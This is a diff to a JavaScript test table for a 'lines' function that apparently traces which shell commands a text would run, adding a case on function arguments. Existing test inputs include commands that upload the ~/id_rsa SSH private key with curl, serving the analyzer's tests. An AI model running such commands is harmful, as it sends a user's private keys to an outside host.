@@ -33,6 +33,11 @@ test.each([
     ["curl -T ~/id_rsa b", "find ~ -name id_rsa -exec curl -T {} b ;"],
   ],
   ["functions", 'f() { curl "$1"; }; f a', ["curl $1", "f a", "curl a"]],
+  [
+    "what a function was given, in it alone",
+    'f() { g b; echo "$1"; }; g() { :; }; f a; echo "$1"',
+    ["g b", "echo $1", ":", "f a", "g b", ":", "echo a", "echo $1"],
+  ],
   ["written scripts", "cat > a.sh <<'E'\ncurl a\nE\nbash ./a.sh", ["cat", "bash ./a.sh", "curl a"]],
 ])("follows %s", (_, text, expected) => {
   expect(lines(text)).toStrictEqual(expected);
